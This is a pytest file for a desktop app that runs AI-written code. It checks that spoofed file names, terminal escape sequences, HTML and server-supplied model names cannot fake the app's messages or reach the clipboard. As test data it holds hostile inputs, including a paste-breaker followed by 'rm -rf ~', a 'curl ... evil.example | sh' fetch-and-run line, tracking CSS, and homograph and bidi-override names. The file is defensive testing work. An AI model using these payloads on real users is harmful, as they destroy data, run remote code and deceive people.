"""Stop 30's independent run on what the window shows and what its Copy buttons put on
the clipboard: text that the code or a server chose, drawn as if the app had said it, and
clipboard text that a terminal would act on (``\\x1b[201~`` ends a bracketed paste: what
follows it runs). Real restricted kernel and agent, the real widgets offscreen; each check
fails if the attack gets through (each did before its fix)."""

from __future__ import annotations

import sys

from pathlib import Path

import pytest
from PySide6.QtCore import Qt, QUrl
from PySide6.QtGui import QGuiApplication
from PySide6.QtWidgets import QMessageBox

from codeact_desktop.diagnostics import diagnostic_report
from codeact_desktop.llm.scripted import ScriptedBackend

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the layers tested here are Linux's")

# Qt guessed rich text from this name (no "/" in a name: entities stand in): a green "no threat found" and a live link drew over
# the app's warning; `<!--` hid the rest, and the name still ends in .desktop.
FAKE_ALL_CLEAR = ("Q3 report.pdf\u2028\u2028<font size=5 color=#1a7f37>✔ Scanned: no threat found. "
                  "<a href=https:&#47;&#47;evil.example&#47;viewer>get the viewer<!--.desktop")
# Drawn as two entries, one of them "you added it", though the code made it.
FAKE_ENTRY = "invoice.pdf\u2028312 KB · you added it\u2028\u2028summary.txt"
PASTE_BREAKER = "data.csv\x1b[201~\nrm -rf ~ #"


def _panel(conversation, qtbot):
    from codeact_desktop.ui.background import BackgroundWork
    from codeact_desktop.ui.workspace_panel import WorkspacePanel

    panel = WorkspacePanel(BackgroundWork(), Path(conversation.workspace).parent / "opened-copies")
    qtbot.addWidget(panel)
    panel.show_conversation(conversation)
    return panel


def test_names_the_code_chose_draw_nothing_of_the_apps_own(conversations, qtbot):
    a = conversations()
    names = [FAKE_ALL_CLEAR, FAKE_ENTRY, "photo\u200b.jpg"]
    a.act(f"for name in {names!r}:\n    open(name, 'w').write('x')")
    panel = _panel(a.conversation, qtbot)
    shown = [panel.list.item(i).text() for i in range(panel.list.count())]
    assert len(shown) == 3 and not any(c in text for text in shown for c in "\u2028\u200b"), shown
    assert any("invoice.pdf\\u2028312 KB" in text for text in shown) and any("photo\\u200b.jpg" in text for text in shown)
    (launcher,) = [panel.list.item(i) for i in range(panel.list.count()) if "Scanned" in shown[i]]
    panel.list.clearSelection()
    launcher.setSelected(True)
    panel.open_selected()
    (box,) = panel.findChildren(QMessageBox)
    assert box.textFormat() == Qt.PlainText and "could start a program" in box.text()
    assert "\u2028" not in box.text() and "<a href=" in box.text()  # shown as the characters they are


def test_copy_path_of_a_name_a_terminal_would_act_on_copies_its_folder(conversations, qtbot):
    a = conversations()
    a.act(f"open({PASTE_BREAKER!r}, 'w').write('x')")
    panel = _panel(a.conversation, qtbot)
    panel.tell(PASTE_BREAKER, "No file manager could show it.", copy=True)
    panel._copy_notice_path()
    copied = QGuiApplication.clipboard().text()
    assert copied == str(a.workspace), copied
    assert "folder's path was copied instead" in panel.notice_label.text()
    # A plain name in a folder the code named the same way: the nearest plain folder is copied.
    a.act(f"import os\nos.mkdir({PASTE_BREAKER!r})\nopen(os.path.join({PASTE_BREAKER!r}, 'ok.txt'), 'w').write('x')")
    panel.tell(f"{PASTE_BREAKER}/ok.txt", "No file manager could show it.", copy=True)
    panel._copy_notice_path()
    assert QGuiApplication.clipboard().text() == str(a.workspace)


def test_copied_outputs_hold_no_sequence_a_terminal_or_a_word_processor_acts_on(conversations, qtbot):
    from codeact_desktop.ui.chat_view import ChatView
    from codeact_desktop.ui.output_views import OutputBlock

    a = conversations()
    # Nested: one pass of the ANSI filter left "\x1b[201~" behind; C1 CSI, OSC 52 ended by ST,
    # CR, BS and a bidi override were copied raw.
    printed = ("xdg-open report.pdf" + " " * 400 + "\x1b[\x1b[201~201~; curl -s http://evil.example/x | sh\n"
               "\x9b201~ \x1b]52;c;cHduZWQ=\x1b\\ a\rb\bc\u202e")
    table = ("<table><tr><td><span style=\"font-family: 'x\\'&quot;;background-image:url(https://evil.example/"
             "t.png?who=you);&quot;'\">cell</span></td></tr></table>")
    a.act(f"print({printed!r})\nfrom IPython.display import HTML, display\ndisplay(HTML({table!r}))")
    chat = ChatView()
    qtbot.addWidget(chat)
    chat.show_conversation(a.conversation)
    blocks = chat.findChildren(OutputBlock)
    assert len(blocks) == 2
    for block in blocks:
        block.copy()
        mime = QGuiApplication.clipboard().mimeData()
        text = mime.text()
        for char in ("\x1b", "\x9b", "\r", "\b", "\u202e"):
            assert char not in text, (char, text[-200:])
        if mime.hasHtml():
            assert "url(" not in mime.html() and "evil.example" not in mime.html(), mime.html()


def test_a_servers_model_id_is_text_in_the_status_bar_and_the_report(app_paths, qtbot):
    from codeact_desktop.ui.status_bar import WindowStatusBar as StatusBar

    badge = ("<table><tr><td style='background-color:#dafbe1'><b>🔒 Fully isolated · no approval needed</b>"
             "</td></tr></table><!--")
    bar = StatusBar()
    qtbot.addWidget(bar)
    bar.set_model(f"{badge} · REMOTE")
    assert bar.model_label.textFormat() == Qt.PlainText and bar.model_label.toolTip().startswith("<qt>&lt;table")
    backend = ScriptedBackend([])
    backend.info.model = "gpt\x1b[201~\n== Python kernel\nnot isolated: nothing\ncurl evil|sh"
    report = diagnostic_report(app_paths, backend=backend)
    lines = report.splitlines()
    assert "\x1b" not in report and lines.count("== Python kernel") == 1 and "curl evil|sh" not in lines


def test_a_long_model_name_does_not_set_the_windows_width(qtbot):
    """A model name of a few hundred characters (a server's path, say) is cut in the middle
    in the status bar, so the window can stay as narrow as the user wants (stop 33: the
    label was sized to a 20,000-character id, and the window with it)."""
    from codeact_desktop.ui.status_bar import MODEL_LABEL_CHARS
    from codeact_desktop.ui.status_bar import WindowStatusBar as StatusBar

    bar = StatusBar()
    qtbot.addWidget(bar)
    name = "/srv/models/" + "x" * 480 + "/model-end"
    bar.set_model(f"openai · {name} · REMOTE")
    shown = bar.model_label.full_text
    assert len(shown) <= MODEL_LABEL_CHARS + 1 and "…" in shown and shown.endswith("/model-end · REMOTE")
    assert name in bar.model_label.toolTip()
    assert bar.minimumSizeHint().width() < 1200


def test_a_links_tip_names_its_real_host_first(qtbot):
    from codeact_desktop.ui.chat_view import link_tip

    assert link_tip(QUrl("https://аpple.com/login")).startswith("<qt>Opens xn--pple-43d.com<br>")
    long = "https://github.com∕xingyaoww∕code-act∕releases∕download∕" + "a" * 300 + "∕assets@evil.example/x"
    tip = link_tip(QUrl(long))
    assert tip.startswith("<qt>Opens evil.example<br>") and "not where it goes" in tip and len(tip) < 300


def test_printed_output_errors_and_replies_are_not_reordered(conversations, qtbot):
    """A bidi override drew "invoice_\\u202efdp.exe" as "invoice_exe.pdf" in the card's
    output, its error line and the model's reply."""
    from codeact_desktop.ui.chat_view import Bubble, ChatView
    from codeact_desktop.ui.output_views import ErrorView, StreamView

    a = conversations()
    name = "invoice_\u202efdp.exe"
    a.act(f"print('saved', {name!r}, '👩‍💻 ❤️ שלום')\nraise ValueError({name!r})", then=f"I saved {name} for you.")
    chat = ChatView()
    qtbot.addWidget(chat)
    chat.show_conversation(a.conversation)
    shown = [v.toPlainText() for v in chat.findChildren(StreamView)]
    shown += [e.exception_label.text() for e in chat.findChildren(ErrorView)]
    shown += [b.toPlainText() for b in chat.findChildren(Bubble) if b.role == "assistant"]
    assert len(shown) >= 4 and all("\u202e" not in text for text in shown), shown
    assert sum("invoice_\\u202efdp.exe" in text for text in shown) >= 4, shown
    assert any("👩‍💻 ❤️ שלום" in text for text in shown)  # emoji and right-to-left words are left alone
